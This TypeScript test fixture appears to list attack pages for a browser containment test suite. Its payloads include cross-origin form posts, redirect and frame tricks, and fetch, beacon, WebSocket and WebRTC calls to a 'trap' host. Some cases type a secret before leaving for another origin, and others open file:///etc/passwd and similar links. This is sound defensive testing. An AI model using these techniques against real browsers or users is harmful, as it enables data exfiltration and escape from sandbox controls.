import { type AttackPage, button, click, form, onClick, page, secret } from "./attack-page.ts"

export const forms: ReadonlyArray<AttackPage> = [
  form("get to another origin", ({ other }) => `action="${other}/form/get"`),
  form("post to another port", ({ port }) => `method=post action="${port}/form/post"`),
  form("post to a denied address", ({ trap }) => `method=post action="${trap}/form"`),
  form("to a window", ({ other }) => `target=_blank action="${other}/form/window"`),
  form("dialog, then post", ({ other }) => `method=dialog action="${other}/form/dialog"`),
  form("data: and javascript:", () => `action="javascript:location='/popup'"`),
  form("307 to another origin", ({ other }) => `method=post action="/redirect?status=307&to=${other}/form/307"`),
  form("302 to another port", ({ port }) => `action="/redirect?to=${port}/form/302"`),
  page(
    "formaction",
    ({ other }) => `<form method=post action=/ok><button id=b formaction="${other}/form/action">go</button></form>`
  ),
  page(
    "button of another form",
    ({ other }) => `<form id=f method=post action="${other}/form/of"></form><button id=b form=f>go</button>`
  ),
  page(
    "base of another origin",
    ({ other }) => `<base href="${other}/"><form method=post action="form/base"><button id=b>go</button></form>`
  ),
  page(
    "base target",
    ({ other }) => `<base target=_blank><form action="${other}/form/target"><button id=b>go</button></form>`
  ),
  page(
    "into a frame",
    ({ other }) =>
      `<iframe name=i></iframe><form target=i method=post action="${other}/form/frame"><button id=b>go</button></form>`
  ),
  page(
    "of a srcdoc frame",
    ({ other }) =>
      `<iframe srcdoc='<form target=_top method=post action="${other}/form/srcdoc"><button id=b>go</button></form>'></iframe>`
  ),
  page(
    "of a blob frame",
    ({ other }) =>
      `<iframe id=i></iframe>${
        button(
          `i.src=URL.createObjectURL(new Blob(['<form method=post action=${other}/form/blob></form><script>document.forms[0].submit()</'+'script>'],{type:'text/html'}))`
        )
      }`
  ),
  page("a redirect that is a page", ({ home }) => `<a id=b href="${home}/bare?status=300">go</a>`, [click, {
    click: "#c"
  }]),
  page("a 302 without a location", ({ home }) => `<a id=b href="${home}/bare?status=302">go</a>`, [click, {
    click: "#c"
  }]),
  page("a 304 that is a page", ({ home }) => `<a id=b href="${home}/bare?status=304">go</a>`, [click, { click: "#c" }]),
  page("a 306 and its window", ({ home }) => `<a id=b href="${home}/bare?status=306">go</a>`, [click, { click: "#w" }]),
  page("Enter in a field", ({ other }) => `<form action="${other}/form/enter"><input id=t name=q></form>`, [{
    type: ["#t", secret]
  }, { press: "Enter" }]),
  ...["submit", "requestSubmit"].map((method) =>
    page(
      `${method}()`,
      ({ other }) =>
        `<form id=f method=post action="${other}/form/${method}"></form>${
          button(`HTMLFormElement.prototype.${method}.call(f)`)
        }`
    )
  ),
  onClick(
    "form in document.write",
    ({ other }) => `document.write('<form method=post action=${other}/form/write></form>');document.forms[0].submit()`
  ),
  onClick(
    "form in about:blank",
    ({ other }) =>
      `const i=document.createElement('iframe');document.body.append(i);i.contentDocument.body.innerHTML='<form method=post action=${other}/form/blank>';i.contentDocument.forms[0].submit()`
  )
]

export const navigations: ReadonlyArray<AttackPage> = [
  ...["trap", "trap6"].flatMap((name) => [
    onClick(`location to ${name}`, (sites) => `location='${sites[name as "trap"]}/nav'`),
    onClick(`fetch, image, beacon, socket to ${name}`, (sites) => {
      const base = sites[name as "trap"]
      return `fetch('${base}/f',{mode:'no-cors'}).catch(()=>0);new Image().src='${base}/i';navigator.sendBeacon('${base}/s','x');new WebSocket('${
        base.replace("http", "ws")
      }/w');new EventSource('${base}/e')`
    }),
    page(
      `hints to ${name}`,
      (sites) =>
        ["preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "prerender", "manifest", "icon"]
          .map((rel) => `<link rel=${rel} as=script href="${sites[name as "trap"]}/${rel}">`).join("") + button("")
    ),
    page(
      `redirect to ${name}`,
      (sites) => `<a id=b href="/redirect?to=${encodeURIComponent(sites[name as "trap"])}/r">go</a>`
    ),
    page(
      `refresh to ${name}`,
      (sites) => `<a id=b href="/refresh?to=${encodeURIComponent(sites[name as "trap"])}/r">go</a>`
    ),
    page(`ping to ${name}`, (sites) => `<a id=b ping="${sites[name as "trap"]}/ping" href="/next">go</a>`)
  ]),
  onClick(
    "WebRTC",
    ({ trap }) =>
      `const p=new (window.RTCPeerConnection||document.createElement('iframe').contentWindow?.RTCPeerConnection)({iceServers:[{urls:'stun:127.0.0.1:${
        new URL(trap).port
      }'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))`
  ),
  page(
    "WebRTC of a frame",
    ({ trap }) =>
      `<iframe id=i></iframe>${
        button(
          `const p=new i.contentWindow.RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:${
            new URL(trap).port
          }'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))`
        )
      }`
  ),
  onClick(
    "WebTransport of a worker",
    ({ trap }) =>
      `new Worker(URL.createObjectURL(new Blob(['new WebTransport(&quot;https://127.0.0.1:${
        new URL(trap).port
      }/&quot;)'])))`
  ),
  onClick(
    "speculation rules",
    ({ home, trap }) =>
      `const s=document.createElement('script');s.type='speculationrules';s.text=JSON.stringify({prerender:[{urls:['${home}/private/spec']}],prefetch:[{urls:['${trap}/spec','${home}/private/spec2']}]});document.head.append(s)`
  ),
  ...[
    "/private/link",
    "/redirect?to=/private/redirect",
    "/redirect?status=308&to=/private/308",
    "/refresh?to=/private/refresh"
  ].map((to) => page(`link to ${to}`, () => `<a id=b href="${to}">go</a>`, [click, { wait_ms: 300 }])),
  ...[
    "location='/private/a'",
    "location.replace('/private/b')",
    "history.pushState(0,'','/private/c');location.reload()",
    "top.location='/private/d'",
    "open('/private/e','_self')",
    "navigation.navigate('/private/f')",
    "document.body.innerHTML='<meta http-equiv=refresh content=0;url=/private/g>'",
    "for(let i=0;i<50;i++)location='/private/h'+i"
  ].map((script) => onClick(`script: ${script.slice(0, 40)}`, () => script)),
  page(
    "frame that navigates top",
    () => `<iframe srcdoc="<button id=b onclick=&quot;top.location='/private/top'&quot;>go</button>"></iframe>`
  ),
  page("frame led to private", () => `<iframe name=i></iframe><a id=b target=i href="/private/led">go</a>`),
  page(
    "area, svg and xlink",
    () =>
      `<svg width=100 height=50><a id=b xlink:href="/private/svg" href="/private/svg"><rect width=100 height=50 /></a></svg>`
  ),
  ...[
    "javascript:document.title='x'",
    "data:text/html,<p>gone",
    "file:///etc/passwd",
    "blob:null/1",
    "view-source:/",
    "chrome://version",
    "about:blank",
    "mailto:a@b",
    "ftp://127.0.0.1/",
    "filesystem:http://127.0.0.1/",
    "intent://x"
  ].map((to) => page(`link to ${to.slice(0, 12)}`, () => `<a id=b href="${to}">go</a>`, [click, click])),
  onClick(
    "back and forward",
    () => "history.pushState(0,'','?1');history.back();setTimeout(()=>history.forward(),10);history.go(-5)"
  ),
  page("redirect loop", ({ home }) => `<a id=b href="/redirect?to=${home}/redirect?to=/redirect">go</a>`),
  page("a page that hangs", () => `<a id=b href="/hang">go</a>`),
  page("a page without an end", () => `<a id=b href="/drip">go</a>`),
  page("a page of 11 MB", () => `<a id=b href="/huge">go</a>`),
  page("a page with a password", ({ home }) => `<a id=b href="${home.replace("//", "//user:pass@")}/auth">go</a>`),
  page("text after another origin", ({ other }) => `<a id=b href="${other}/login">go</a>`, [click, {
    type: ["#t", secret]
  }]),
  page("leaves while it is typed", ({ other }) => `<input id=t oninput="location='${other}/login'">`, [{
    type: ["#t", secret.repeat(14)]
  }]),
  page("another origin, and back", ({ home, other }) => `<a id=b href="${other}/redirect?to=${home}/back">go</a>`, [
    click,
    { wait_ms: 200 }
  ])
]
